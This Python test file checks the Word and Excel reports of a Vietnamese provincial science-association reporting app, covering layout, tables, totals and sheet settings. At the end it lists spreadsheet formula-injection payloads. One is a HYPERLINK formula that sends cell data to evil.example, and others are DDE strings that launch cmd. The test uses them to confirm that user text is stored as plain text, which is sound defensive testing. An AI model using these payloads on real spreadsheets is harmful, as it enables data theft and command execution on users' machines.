"""The consolidated report against a hand-computed fixture: the .docx opened back with
python-docx (header block, tables, sums), the .xlsx with openpyxl (typed cells, frozen
headers, autofilters)."""

from __future__ import annotations

import io
from datetime import date, datetime

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlmodel import select

from models.activities.register import Draft, register
from models.activities.tables import ActivityStatus
from models.db.engine import session_scope
from models.office.board import choose_period
from models.office.export.bundle import build_bundle
from models.office.export.docx_report import place_and_date
from models.people.tables import Person
from models.programme.tables import ActivityType, Agency
from models.reporting.submissions import narrative_code, review, save_item, submission_for, submit
from models.reporting.tables import Period
from tests.conftest import local

NOW = local(2027, 6, 25, 9)


def _agency(session, code: str) -> Agency:  # type: ignore[no-untyped-def]
    return session.exec(select(Agency).where(Agency.code == code)).one()


def _report(session, period: Period, code: str, values: dict[str, float], difficulty: str | None, when: datetime) -> None:  # type: ignore[no-untyped-def]
    agency = _agency(session, code)
    submission = submission_for(session, period.id, agency.id, when)  # type: ignore[arg-type]
    for key, value in values.items():
        save_item(session, submission, key, when, value=value)
    if difficulty:
        save_item(session, submission, narrative_code("kho-khan"), when, text=difficulty)
    person = session.exec(select(Person).where(Person.agency_id == agency.id)).first()
    submit(session, submission, period, person.id if person else 1, when)


@pytest.fixture
def bundle(db, loaded, lao_cai):  # type: ignore[no-untyped-def]
    """Reports for 2027-H1 (window 15/12/2026–14/06/2027, due 20/06/2027):
    SYT on time (hội thảo 2, kinh phí 12,5), HYH late (3 and 7,5), SNV accepted (1),
    SKHCN a draft and SCT returned (neither counted). Activities in the window: the sample's
    workshop of 18/12/2026 (90 people), two more workshops (30 people, and unknown), one
    training of 40; a cancelled one and one after the window do not count."""
    with session_scope(db) as session:
        chosen = choose_period(session, lao_cai, loaded, "2027-H1", NOW)
        period = session.get(Period, chosen.row.id)
        _report(session, period, "SYT", {"hoi-thao": 2, "kinh-phi": 12.5}, "Thiếu kinh phí cho tập huấn.", local(2027, 6, 18, 10))
        _report(session, period, "HYH", {"hoi-thao": 3, "kinh-phi": 7.5}, "Hồ sơ phản biện gửi chậm.", local(2027, 6, 23, 10))
        _report(session, period, "SNV", {"hoi-thao": 1}, None, local(2027, 6, 19, 10))
        snv = session.exec(select(Period).where(Period.id == period.id)).one()
        accepted = submission_for(session, snv.id, _agency(session, "SNV").id, NOW)  # type: ignore[arg-type]
        review(session, accepted, 1, True, None, NOW)
        draft = submission_for(session, period.id, _agency(session, "SKHCN").id, NOW)  # type: ignore[arg-type]
        save_item(session, draft, "hoi-thao", NOW, value=50)
        _report(session, period, "SCT", {"hoi-thao": 40}, "Không tính.", local(2027, 6, 19, 10))
        returned = submission_for(session, period.id, _agency(session, "SCT").id, NOW)  # type: ignore[arg-type]
        review(session, returned, 1, False, "Thiếu số liệu", NOW)
        types = {t.code: t.id for t in session.exec(select(ActivityType))}
        lead = _agency(session, "SNNPTNT")
        for code, day, participants in (
            ("hoi-thao", date(2027, 1, 10), 30),
            ("hoi-thao", date(2027, 3, 5), None),
            ("tap-huan", date(2027, 5, 2), 40),
            ("tap-huan", date(2027, 7, 1), 99),
        ):
            register(
                session,
                loaded,
                lead,
                Draft(types[code], f"Hoạt động {code} {day}", day, "Lào Cai", (), participants),
                None,
                NOW.date(),
                NOW,
            )
        cancelled = register(
            session, loaded, lead, Draft(types["tap-huan"], "Hoạt động đã hủy", date(2027, 4, 1), "Lào Cai", (), 500), None, NOW.date(), NOW
        )
        cancelled.status = ActivityStatus.CANCELLED
    with session_scope(db) as session:
        chosen = choose_period(session, lao_cai, loaded, "2027-H1", NOW)
        return build_bundle(session, lao_cai, loaded, chosen, NOW)


def test_place_and_date_follow_decree_30() -> None:
    assert place_and_date("Lào Cai", date(2027, 1, 5)) == "Lào Cai, ngày 05 tháng 01 năm 2027"
    assert place_and_date("Lào Cai", date(2027, 2, 15)) == "Lào Cai, ngày 15 tháng 02 năm 2027"
    assert place_and_date("Lào Cai", date(2027, 11, 3)) == "Lào Cai, ngày 03 tháng 11 năm 2027"


def test_the_figures(bundle) -> None:  # type: ignore[no-untyped-def]
    data = bundle.data
    assert [f.agency.code for f in data.figures] == ["SNV", "SYT", "HYH"]
    assert data.totals["hoi-thao"] == 6 and data.totals["kinh-phi"] == 20
    assert {c.type.code: (c.activities, c.participants) for c in data.by_type if c.type.code in ("hoi-thao", "tap-huan")} == {
        "hoi-thao": (2, 30),  # the sample's hội thảo of 2027 is still planned: only held ones count
        "tap-huan": (1, 40),
    }
    assert [d.agency for d in data.difficulties] == ["Sở Y tế", "Hội Y học tỉnh"]


def test_the_word_document(bundle) -> None:  # type: ignore[no-untyped-def]
    document = Document(io.BytesIO(bundle.docx))
    section = document.sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
    assert (
        round(section.top_margin.mm),
        round(section.bottom_margin.mm),
        round(section.left_margin.mm),
        round(section.right_margin.mm),
    ) == (20, 20, 30, 15)
    assert section.different_first_page_header_footer
    assert "PAGE" in section.header._element.xml
    assert document.styles["Normal"].font.name == "Times New Roman" and document.styles["Normal"].font.size.pt == 13
    header = document.tables[0].rows[0].cells
    left = [p.text for p in header[0].paragraphs if p.text]
    right = [p for p in header[1].paragraphs if p.text]
    assert left == ["LIÊN HIỆP CÁC HỘI KHOA HỌC", "VÀ KỸ THUẬT TỈNH LÀO CAI", "Số:        /BC-LHH"]
    assert [p.text for p in right] == [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Lào Cai, ngày 25 tháng 6 năm 2027",
    ]
    assert right[0].runs[0].bold and right[0].runs[0].font.size.pt == 12
    assert right[1].runs[0].bold and right[1].runs[0].font.size.pt == 13
    assert right[2].runs[0].italic
    texts = [p.text for p in document.paragraphs]
    assert "BÁO CÁO" in texts
    assert "Kết quả thực hiện công tác phối hợp 6 tháng đầu năm 2027" in texts
    assert any(
        "đã gửi 3 báo cáo, trong đó 1 báo cáo gửi muộn và 1 báo cáo đã được tiếp nhận; 1 báo cáo bị trả lại để hoàn thiện;"
        " còn 37 cơ quan, đơn vị chưa gửi (quá hạn 5 ngày)." in t
        for t in texts
    )
    assert "- Sở Y tế: Thiếu kinh phí cho tập huấn." in texts and not any("Không tính." in t for t in texts)
    status = document.tables[1]
    assert [c.text for c in status.rows[0].cells] == ["TT", "Cơ quan, đơn vị", "Loại", "Tình trạng", "Ngày gửi"]
    assert len(status.rows) == 42
    rows = {r.cells[1].text: [c.text for c in r.cells] for r in status.rows[1:]}
    assert rows["Sở Y tế"][3:] == ["đã gửi (đúng hạn)", "18/06/2027"]
    assert rows["Hội Y học tỉnh"][3] == "gửi muộn" and rows["Sở Nội vụ"][3] == "đã tiếp nhận"
    assert rows["Sở Công Thương"][3] == "bị trả lại" and rows["Sở Khoa học và Công nghệ"][3] == "quá hạn 5 ngày"
    indicators = table_headed(document, "Theo báo cáo")
    totals = {r.cells[1].text: (r.cells[3].text, r.cells[4].text, r.cells[5].text) for r in indicators.rows[1:]}
    assert totals["Số hội thảo khoa học"] == ("6", "3", "+3")
    assert totals["Kinh phí thực hiện các hoạt động phối hợp"] == ("20", "", "")
    per_agency = table_headed(document, "Số hội thảo khoa học")
    assert [c.text for c in per_agency.rows[-1].cells][:3] == ["", "Tổng cộng", "6"]
    by_type = table_headed(document, "Loại hoạt động")
    assert [c.text for c in by_type.rows[-1].cells] == ["", "Tổng cộng", "3", "70"]
    closing = document.tables[-1].rows[0].cells
    assert closing[0].paragraphs[0].text == "Nơi nhận:" and closing[0].paragraphs[-1].text == "- Lưu: VT, VP LHH."
    assert [p.text for p in closing[1].paragraphs if p.text] == ["TM. BAN THƯỜNG VỤ", "CHỦ TỊCH"]
    assert len(document.inline_shapes) == 2


def table_headed(document, header: str):  # type: ignore[no-untyped-def]
    """The document's table with a header cell reading `header`."""
    return next(table for table in document.tables if header in [cell.text for cell in table.rows[0].cells])


def test_the_workbook(bundle) -> None:  # type: ignore[no-untyped-def]
    book = load_workbook(io.BytesIO(bundle.xlsx))
    assert book.sheetnames == [
        "Tình hình gửi báo cáo",
        "Chưa gửi báo cáo",
        "Nội dung báo cáo",
        "Đối chiếu chỉ tiêu",
        "Chỉ tiêu theo cơ quan",
        "Hoạt động theo loại",
        "Danh sách hoạt động",
        "Chỉ tiêu nhiệm kỳ",
    ]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == sheet.dimensions
    status = book["Tình hình gửi báo cáo"]
    syt = next(row for row in status.iter_rows(min_row=2, values_only=True) if row[1] == "SYT")
    assert syt[4] == "đã gửi (đúng hạn)" and syt[5] == datetime(2027, 6, 18)
    assert status.cell(row=2, column=6).number_format == "DD/MM/YYYY"
    figures = book["Chỉ tiêu theo cơ quan"]
    header = [c.value for c in figures[1]]
    assert header[:3] == ["Mã", "Cơ quan, đơn vị", "Số hội thảo khoa học (cuộc)"]
    last = [c.value for c in figures[figures.max_row]]
    assert last[1] == "Tổng cộng" and last[2] == 6 and isinstance(last[2], int | float)
    assert last[header.index("Kinh phí thực hiện các hoạt động phối hợp (triệu đồng)")] == 20
    activities = book["Danh sách hoạt động"]
    days = [row[1] for row in activities.iter_rows(min_row=2, values_only=True)]
    assert days == [datetime(2026, 12, 18), datetime(2027, 1, 10), datetime(2027, 3, 5), datetime(2027, 5, 2)]
    difficulties = [row[0] for row in book["Nội dung báo cáo"].iter_rows(min_row=2, values_only=True) if row[1].startswith("Khó khăn")]
    assert difficulties == ["Sở Y tế", "Hội Y học tỉnh"]


def test_charts_are_pictures(bundle) -> None:  # type: ignore[no-untyped-def]
    assert set(bundle.charts) == {"progress", "types"}
    assert all(png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 5000 for png in bundle.charts.values())
    assert set(bundle.files()) == {f"{bundle.stem}.docx", f"{bundle.stem}.xlsx", f"{bundle.stem}-progress.png", f"{bundle.stem}-types.png"}


HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&B2,"Xem")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
)


def test_user_text_is_never_a_formula(db, loaded, lao_cai) -> None:  # type: ignore[no-untyped-def]
    """Titles, places and narratives typed by anyone reach every sheet as text, as typed."""
    with session_scope(db) as session:
        chosen = choose_period(session, lao_cai, loaded, "2027-H1", NOW)
        period = session.get(Period, chosen.row.id)
        agencies = session.exec(select(Agency.code).where(Agency.code != "LHH").order_by(Agency.id).limit(len(HOSTILE))).all()
        for code, hostile in zip(agencies, HOSTILE, strict=True):
            _report(session, period, code, {"hoi-thao": 1}, hostile, local(2027, 6, 18, 10))
        types = {t.code: t.id for t in session.exec(select(ActivityType))}
        lead = _agency(session, "SNNPTNT")
        for n, hostile in enumerate(HOSTILE):
            draft = Draft(types["hoi-thao"], hostile, date(2027, 1, 10 + n), hostile, (), 5)
            register(session, loaded, lead, draft, None, NOW.date(), NOW)
    with session_scope(db) as session:
        chosen = choose_period(session, lao_cai, loaded, "2027-H1", NOW)
        xlsx = build_bundle(session, lao_cai, loaded, chosen, NOW).xlsx
    book = load_workbook(io.BytesIO(xlsx))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    activities = book["Danh sách hoạt động"]
    assert {row[3] for row in activities.iter_rows(min_row=2, values_only=True)} >= set(HOSTILE)
    assert {row[5] for row in activities.iter_rows(min_row=2, values_only=True)} >= set(HOSTILE)
    assert {row[2] for row in book["Nội dung báo cáo"].iter_rows(min_row=2, values_only=True)} == set(HOSTILE)
    assert set(HOSTILE) <= set(texts)
    assert any(c.value == HOSTILE[0] and c.quotePrefix for c in cells)
